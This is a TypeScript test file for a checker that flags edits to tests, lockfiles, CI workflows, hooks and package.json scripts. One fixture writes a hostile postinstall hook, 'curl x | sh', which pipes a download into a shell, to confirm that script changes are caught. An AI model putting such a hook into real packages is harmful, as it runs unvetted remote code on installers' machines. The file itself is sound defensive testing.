import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DEFAULT_PROTECTED_PATHS } from '../../config/config-schema.js';
import { findProtected, jsonPointerValue, type ProtectedCandidate } from './protected-paths.js';

const bytes = (text: string | null) => (text === null ? null : new TextEncoder().encode(text));

function changed(path: string, before: string | null = 'old\n', after: string | null = 'new\n'): ProtectedCandidate {
  return { path, before: () => Promise.resolve(bytes(before)), after: () => Promise.resolve(bytes(after)) };
}

async function covered(paths: string[], rules: readonly string[] = DEFAULT_PROTECTED_PATHS): Promise<string[]> {
  return (await findProtected(rules, paths.map((p) => changed(p)))).map((c) => c.path);
}

test('the defaults cover tests, snapshots, lockfiles, CI workflows, hooks and .aide, at any depth', async () => {
  const protectedOnes = [
    'test/app.test.js',
    'packages/a/test/helpers.js',
    'tests/test_x.py',
    'src/__tests__/a.js',
    'src/app.test.ts',
    'src/app.spec.tsx',
    'pkg/handler_test.go',
    'tool/test_cli.py',
    'tool/cli_test.py',
    'src/__snapshots__/a.js.snap',
    'ui/button.snap',
    'package-lock.json',
    'apps/web/pnpm-lock.yaml',
    'yarn.lock',
    'Cargo.lock',
    'go.sum',
    'poetry.lock',
    'uv.lock',
    '.github/workflows/ci.yml',
    '.husky/pre-commit',
    '.aide/sandbox.json',
    '.aide/plans/x.md',
  ];
  assert.deepEqual(await covered(protectedOnes), protectedOnes);
  assert.deepEqual(await covered(['src/app.ts', 'README.md', 'testing.md', 'src/contest.js', '.github/CODEOWNERS', 'Cargo.toml', 'src/latest/x.js']), []);
});

test('each protected file names the first rule that covers it', async () => {
  const found = await findProtected(['src/gen/**', '**/*.ts'], [changed('src/gen/a.ts'), changed('src/b.ts'), changed('c.js')]);
  assert.deepEqual(found, [
    { path: 'src/gen/a.ts', rule: 'src/gen/**' },
    { path: 'src/b.ts', rule: '**/*.ts' },
  ]);
});

test('package.json#/scripts covers a change to scripts, not a dependency bump', async () => {
  const before = JSON.stringify({ name: 'x', scripts: { test: 'node --test' }, dependencies: { a: '1.0.0' } }, null, 2);
  const bump = JSON.stringify({ name: 'x', scripts: { test: 'node --test' }, dependencies: { a: '1.1.0' } }, null, 2);
  const script = JSON.stringify({ name: 'x', scripts: { test: 'node --test', postinstall: 'curl x | sh' }, dependencies: { a: '1.0.0' } });
  const rules = DEFAULT_PROTECTED_PATHS;
  assert.deepEqual(await findProtected(rules, [changed('package.json', before, bump)]), []);
  assert.deepEqual(await findProtected(rules, [changed('packages/x/package.json', before, script)]), [{ path: 'packages/x/package.json', rule: '**/package.json#/scripts' }]);
  // A new package.json with scripts, a deleted one that had them: both change the value.
  assert.equal((await findProtected(rules, [changed('package.json', null, script)])).length, 1);
  assert.equal((await findProtected(rules, [changed('package.json', before, null)])).length, 1);
  // Neither side has scripts: not covered.
  assert.deepEqual(await findProtected(rules, [changed('package.json', null, '{"name":"x"}')]), []);
});

test('a JSON file that does not parse on either side counts as changing the protected value', async () => {
  const rules = ['**/package.json#/scripts'];
  assert.equal((await findProtected(rules, [changed('package.json', '{"scripts":{}}', '{"scripts": {')])).length, 1);
  assert.equal((await findProtected(rules, [changed('package.json', '\u00ff\u00fe', '{}')])).length, 1);
});

test('a pointer rule reads the file only when its glob matches', async () => {
  let reads = 0;
  const counting: ProtectedCandidate = {
    path: 'src/a.ts',
    before: () => Promise.resolve((reads++, null)),
    after: () => Promise.resolve((reads++, null)),
  };
  await findProtected(DEFAULT_PROTECTED_PATHS, [counting]);
  assert.equal(reads, 0);
});

test('JSON pointers follow RFC 6901 escapes', () => {
  const doc = { 'a/b': { 'c~d': [1, 2] }, '': 'empty' };
  assert.deepEqual(jsonPointerValue(doc, '/a~1b/c~0d'), [1, 2]);
  assert.equal(jsonPointerValue(doc, '/a~1b/c~0d/1'), 2);
  assert.equal(jsonPointerValue(doc, '/missing/x'), undefined);
  assert.equal(jsonPointerValue(doc, ''), doc);
  assert.equal(jsonPointerValue(doc, '/'), 'empty');
});
